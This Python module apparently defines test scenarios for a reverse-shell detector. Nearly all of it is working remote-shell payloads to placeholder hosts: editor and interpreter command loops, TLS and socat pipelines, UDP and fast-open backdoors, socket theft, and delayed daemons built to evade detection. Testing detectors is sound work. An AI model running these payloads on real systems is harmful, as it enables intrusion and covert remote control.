# SPDX-License-Identifier: Apache-2.0
"""Shapes I to L: what runs the commands is no shell, and how it came by its connection is not seen.

I: a command loop in a program that can run another one, from a file or standard input. J:
pipelines with encryption, doubled tools, wrappers that make a terminal. K: doors that leave no
connect record. L: patience: minutes between exec, connect and shell, two forks between."""

from attacks import PROGRAM
from scenarios import AT_A_TERMINAL, Attack, CHILD_CONNECTS, POLLS

# Long enough that nothing which waits a minute sees both ends.
LATE = 65
PATIENCE = 4.0 * LATE

# A tool that reads commands and says what they said, between two pipes of a network tool.
FIFO = "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | {} >@D@/f 2>&1"


def through(before, after="", exit="exit", shell=True):
    return {"before": before, "after": after, "exit": exit, "shell": shell}


VIM_LOOP = """\
let c = ch_open('@H@:@P@', {'mode': 'nl', 'waittime': 5000})
while 1
  let l = ch_read(c, {'timeout': 60000})
  if l ==# 'exit' || l ==# ''
    qa!
  endif
  call ch_sendraw(c, system(l))
endwhile
"""
GDB_LOOP = """\
import socket, subprocess
s = socket.create_connection(("@H@", @P@))
for l in s.makefile("r"):
    if l.startswith("exit"):
        break
    s.sendall(subprocess.run(l, shell=True, stdout=subprocess.PIPE).stdout)
"""
GUILE_LOOP = """\
(use-modules (ice-9 popen) (ice-9 rdelim))
(define s (socket PF_INET SOCK_STREAM 0))
(connect s AF_INET (inet-pton AF_INET "@H@") @P@)
(let loop ((l (read-line s)))
  (if (and (string? l) (not (string=? l "exit")))
      (let* ((p (open-input-pipe l)) (r (read-string p)))
        (close-pipe p) (display r s) (force-output s) (loop (read-line s)))))
"""
EXPECT_LOOP = """\
log_user 0
set timeout -1
spawn -noecho nc.openbsd @H@ @P@
stty raw -echo < $spawn_out(slave,name)
expect {
  -re "(\\[^\\n\\]+)\\n" {
    if {$expect_out(1,string) ne "exit"} {
      catch {exec sh -c $expect_out(1,string)} r
      send "$r\\n"
      exp_continue
    }
  }
}
"""
AWK_SYSTEM = "{ if ($0 == \"exit\") exit; system($0); fflush() }\n"
MAKE_LOOP = """\
all:
\t@while c=$$(curl -s http://@H@:@P@/task); do \\
\t[ -n "$$c" ] && $(MAKE) -s run C="$$c"; sleep 0.4; done
run:
\t@$(C) | curl -s --data-binary @- http://@H@:@P@/r
"""
PYTHON_STEAL = """\
import ctypes, os, subprocess, time
c = ctypes.CDLL(None)
p = subprocess.Popen(["nc.openbsd", "@H@", "@P@"], stdin=subprocess.PIPE)
time.sleep(0.5)
h = c.syscall(434, p.pid, 0)
fd = c.syscall(438, h, 3, 0)
os.kill(p.pid, 19)
if os.fork() == 0:
    for t in (0, 1, 2):
        os.dup2(fd, t)
    os.execv("/bin/sh", ["sh"])
os.wait()
"""
PYTHON_UNCONNECTED = """\
import os, socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
d = ("::ffff:@H@", @P@)
s.sendto(b"up\\n", d)
while True:
    c = s.recv(4096).decode()
    if c.startswith("exit"):
        break
    s.sendto(os.popen(c).read().encode(), d)
"""
PYTHON_FAST_OPEN = """\
import os, pty, socket
s = socket.socket()
s.sendto(b"up\\n", 0x20000000, ("@H@", @P@))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""
PYTHON_INHERITED = """\
import os, socket
s = socket.create_server(("@V@", @P@))
os.set_inheritable(s.fileno(), True)
os.dup2(s.fileno(), 3)
os.execv("/usr/bin/perl", ["perl", "@D@/p"])
"""
PERL_ACCEPTS = """\
open my $l, '<&=', 3; my $a = accept(my $c, $l);
open STDIN, '<&', $c; open STDOUT, '>&', $c; open STDERR, '>&', $c;
exit if fork; exec '/bin/bash';
"""
PYTHON_DAEMON = """\
import os, socket, time
if os.fork(): raise SystemExit
os.setsid()
if os.fork(): raise SystemExit
time.sleep(20)
s = socket.create_connection(("@H@", @P@))
time.sleep({late})
if os.fork() == 0:
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.execv("/bin/dash", ["dash"])
    os._exit(0)
os.wait()
""".replace("{late}", str(LATE))
PERL_LATE_LOOP = """\
use IO::Socket::INET;
sleep %d;
my $s = IO::Socket::INET->new('@H@:@P@') or die;
exit if fork; exit if fork;
while (<$s>) { last if /^exit/; my $r = `$_`; print $s $r }
""" % LATE

ATTACKS = [
    # ---- I
    Attack("loop_vim_ssh", "I", "editor", "ssh", "tcp", "vim -es -N -u NONE -S @D@/v",
           needs=("vim",), files={"v": VIM_LOOP}, live=True),
    Attack("loop_ed_cron", "I", "editor", "cron", "tcp", FIFO.format("ed -s"), needs=("ed",),
           speaks=through("!", exit="Q"), live=True),
    Attack("loop_gdb_script_web", "I", "debugger", "web", "tcp", "gdb -q -nx -batch -x @D@/g.py",
           needs=("gdb",), files={"g.py": GDB_LOOP}),
    Attack("loop_gdb_stdin_ssh", "I", "debugger", "ssh", "tcp", FIFO.format("gdb -q -nx"),
           needs=("gdb",), speaks=through("shell ", exit="quit"), live=True),
    Attack("loop_sqlite_cron", "I", "database", "cron", "tcp", FIFO.format("sqlite3"),
           needs=("sqlite3",), speaks=through(".shell ", exit=".quit"), live=True),
    Attack("loop_m4_ssh", "I", "language", "ssh", "tcp", FIFO.format("m4"), needs=("m4",),
           speaks=through("syscmd(`", "')", "m4exit(0)")),
    Attack("loop_tclsh_stdin_web", "I", "language", "web", "tcp", FIFO.format("tclsh"),
           needs=("tclsh",), speaks=through("puts [exec sh -c {", "}]; flush stdout"), live=True),
    Attack("loop_python_stdin_cron", "I", "language", "cron", "tcp", FIFO.format("python3 -iq"),
           needs=("python3",), speaks=through("__import__('os').system('", "')", "exit()")),
    Attack("loop_lua_stdin_ssh", "I", "language", "ssh", "tcp", FIFO.format("lua5.4 -i"),
           needs=("lua5.4",), speaks=through("os.execute('", "')", "os.exit()")),
    Attack("loop_node_stdin_web", "I", "language", "web", "tcp", FIFO.format("node -i"),
           needs=("node",),
           speaks=through("require('child_process').execSync('", "').toString()", ".exit")),
    Attack("loop_guile_ssh", "I", "language", "ssh", "tcp", "guile @D@/s.scm",
           needs=("guile",), files={"s.scm": GUILE_LOOP},
           unseen=AT_A_TERMINAL),
    Attack("loop_expect_cron", "I", "language", "cron", "tcp", "expect @D@/e",
           needs=("expect", "nc.openbsd"), files={"e": EXPECT_LOOP},
           unseen=CHILD_CONNECTS),
    Attack("loop_awk_web", "I", "awk", "web", "tcp", FIFO.format("gawk -f @D@/a"),
           needs=("gawk",), files={"a": AWK_SYSTEM}),
    Attack("loop_busybox_awk_cron", "I", "awk", "cron", "two",
           "nc.openbsd @H@ @P@ | busybox awk -f @D@/a | nc.openbsd @H@ @Q@", needs=("busybox",),
           files={"a": AWK_SYSTEM}),
    Attack("loop_sed_ssh", "I", "text", "ssh", "tcp", FIFO.format("sed -u e")),
    Attack("loop_xargs_web", "I", "text", "web", "tcp", FIFO.format("xargs -d '\\n' -n1 sh -c"),
           live=True),
    Attack("loop_xargs_env_cron", "I", "text", "cron", "tcp", FIFO.format("xargs -n 4 -L 1 env"),
           speaks=PROGRAM),
    Attack("loop_make_cron", "I", "build", "cron", "http", "make -s -C @D@", needs=("make",),
           files={"Makefile": MAKE_LOOP}, speaks=PROGRAM,
           unseen=POLLS),
    Attack("loop_lftp_ssh", "I", "network", "ssh", "tcp", FIFO.format("lftp"), needs=("lftp",),
           speaks=through("!")),
    # ---- J
    Attack("tls_two_web", "J", "openssl", "web", "two_tls",
           "openssl s_client -quiet -connect @H@:@P@ 2>/dev/null | sh 2>&1 | "
           "openssl s_client -quiet -connect @H@:@Q@ 2>/dev/null", live=True),
    Attack("tls_fifo_cron", "J", "openssl", "cron", "tls",
           "mkfifo @D@/f; openssl s_client -quiet -verify_quiet -connect @H@:@P@ <@D@/f "
           "2>/dev/null | bash >@D@/f 2>&1", live=True),
    Attack("tls_ncat_ssh", "J", "netcat", "ssh", "tls", "ncat --ssl @H@ @P@ -e /bin/sh",
           needs=("ncat",), live=True),
    Attack("tls_socat_pty_web", "J", "socat", "web", "tls",
           "socat OPENSSL:@H@:@P@,verify=0 EXEC:'bash -li',pty,stderr,setsid,sane",
           needs=("socat",)),
    Attack("tls_python_cron", "J", "python", "cron", "tls", "python3 @D@/t.py",
           needs=("python3",), files={"t.py": """\
import socket, ssl, subprocess
x = ssl._create_unverified_context()
s = x.wrap_socket(socket.create_connection(("@H@", @P@)))
while True:
    c = s.recv(4096).decode()
    if not c or c.startswith("exit"):
        break
    s.sendall(subprocess.getoutput(c).encode())
"""}),
    Attack("terminal_script_ssh", "J", "wrapper", "ssh", "tcp",
           "mkfifo @D@/f; script -qc bash /dev/null <@D@/f | nc.openbsd @H@ @P@ >@D@/f",
           needs=("script", "nc.openbsd"), live=True),
    Attack("terminal_python_cron", "J", "wrapper", "cron", "tcp",
           "mkfifo @D@/f; python3 -c 'import pty;pty.spawn(\"/bin/sh\")' <@D@/f 2>&1 | "
           "nc.openbsd @H@ @P@ >@D@/f", needs=("python3", "nc.openbsd")),
    Attack("terminal_unbuffer_web", "J", "wrapper", "web", "tcp",
           "mkfifo @D@/f; unbuffer -p sh <@D@/f 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("unbuffer", "nc.openbsd")),
    Attack("wrapped_nc_cron", "J", "wrapper", "cron", "tcp",
           "setsid nohup nice -n 5 timeout 100 env -i stdbuf -o0 nc.traditional @H@ @P@ -e /bin/sh",
           needs=("nc.traditional",), live=True),
    Attack("wrapped_busybox_web", "J", "wrapper", "web", "tcp",
           "busybox setsid busybox timeout 100 busybox nc @H@ @P@ -e busybox sh",
           needs=("busybox",)),
    Attack("rot13_pipeline_ssh", "J", "netcat", "ssh", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | sed -u 'y/abcdef/fedcba/' | sh 2>&1 | "
           "sed -u 'y/abcdef/fedcba/' >@D@/f", needs=("nc.openbsd",),
           speaks={"cipher": "abcdef"}),
    Attack("doubled_socat_cron", "J", "socat", "cron", "tcp",
           "socat TCP:@H@:@P@ EXEC:'socat - \"EXEC:sh,pty,setsid,stderr\"'", needs=("socat",)),
    Attack("doubled_nc_web", "J", "netcat", "web", "tcp",
           "mkfifo @D@/f @D@/g; cat <@D@/f | nc.openbsd @H@ @P@ | cat >@D@/g & "
           "cat <@D@/g | env -i sh 2>&1 | cat >@D@/f", needs=("nc.openbsd",), live=True),
    # ---- K
    Attack("door_datagrams_c_ssh", "K", "binary", "ssh", "udp", "@D@/m @H@ @P@ h &",
           needs=("implant",), files={"m": "copy:@C@/implant"}, live=True),
    Attack("door_datagrams_python_web", "K", "python", "web", "udp", "python3 @D@/u.py",
           needs=("python3",), files={"u.py": PYTHON_UNCONNECTED}),
    Attack("door_datagrams_socat_cron", "K", "socat", "cron", "udp",
           "socat UDP-DATAGRAM:@H@:@P@ SYSTEM:'echo up; exec sh'", needs=("socat",), live=True),
    Attack("door_fast_open_c_cron", "K", "binary", "cron", "tcp", "@D@/o @H@ @P@ i",
           needs=("implant",), files={"o": "copy:@C@/implant"}, live=True),
    Attack("door_fast_open_python_ssh", "K", "python", "ssh", "tcp", "python3 @D@/o.py",
           needs=("python3",), files={"o.py": PYTHON_FAST_OPEN}),
    Attack("door_uring_service", "K", "binary", "service", "tcp", "@D@/q @H@ @P@ j",
           needs=("implant",), files={"q": "copy:@C@/implant"}, live=True),
    Attack("door_uring_poll_web", "K", "binary", "web", "tcp", "@D@/p @H@ @P@ k",
           needs=("implant",), files={"p": "copy:@C@/implant"}, live=True),
    Attack("door_handed_over_ssh", "K", "binary", "ssh", "tcp", "@D@/h @H@ @P@ l",
           needs=("implant",), files={"h": "copy:@C@/implant"}, live=True),
    Attack("door_stolen_cron", "K", "python", "cron", "tcp", "python3 @D@/s.py",
           needs=("python3", "nc.openbsd"), files={"s.py": PYTHON_STEAL}, speaks={"wait": 1.5}),
    Attack("door_accept_blind_cron", "K", "bind", "cron", "bind", "@D@/b @H@ @P@ m",
           needs=("implant",), files={"b": "copy:@C@/implant"}, live=True),
    Attack("door_inherited_listener_web", "K", "bind", "web", "bind", "python3 @D@/l.py",
           needs=("python3",), files={"l.py": PYTHON_INHERITED, "p": PERL_ACCEPTS}),
    Attack("door_socket_unit_service", "K", "bind", "service", "bind",
           "systemd-socket-activate -l @V@:@P@ --inetd -a /bin/sh",
           needs=("systemd-socket-activate",)),
    Attack("door_echoes_service", "K", "binary", "service", "icmp", "@D@/n @H@ @P@ n",
           needs=("implant",), files={"n": "copy:@C@/implant"}, live=True),
    # ---- L
    Attack("late_c_orphan_cron", "L", "binary", "cron", "tcp", f"@D@/y @H@ @P@ o {LATE}",
           needs=("implant",), files={"y": "copy:@C@/implant"}, patience=PATIENCE),
    Attack("late_bash_ssh", "L", "shell", "ssh", "tcp",
           f"(sleep {LATE}; exec 5<>/dev/tcp/@H@/@P@; sleep {LATE}; bash <&5 >&5 2>&5) &",
           patience=PATIENCE),
    Attack("late_python_daemon_cron", "L", "python", "cron", "tcp", "python3 @D@/d.py",
           needs=("python3",), files={"d.py": PYTHON_DAEMON}, patience=PATIENCE),
    Attack("late_perl_loop_ssh", "L", "perl", "ssh", "tcp", "perl @D@/w.pl",
           files={"w.pl": PERL_LATE_LOOP}, patience=PATIENCE,
           unseen=AT_A_TERMINAL),
    Attack("late_fifo_cron", "L", "netcat", "cron", "tcp",
           f"mkfifo @D@/f @D@/g; exec 8<>@D@/f 9<>@D@/g; sh <@D@/f >@D@/g 2>&1 & sleep {LATE}; "
           "nc.openbsd @H@ @P@ <@D@/g >@D@/f", needs=("nc.openbsd",), patience=PATIENCE, live=True),
    Attack("late_bind_socat_ssh", "L", "bind", "ssh", "late_bind",
           "setsid -f socat TCP-LISTEN:@P@ EXEC:sh", needs=("socat",), patience=PATIENCE,
           live=True),
    Attack("late_socat_retry_cron", "L", "socat", "cron", "late_tcp",
           "socat TCP:@H@:@P@,retry=100,interval=2 EXEC:'bash -i',pty,stderr,setsid",
           needs=("socat",), patience=PATIENCE, live=True),
]
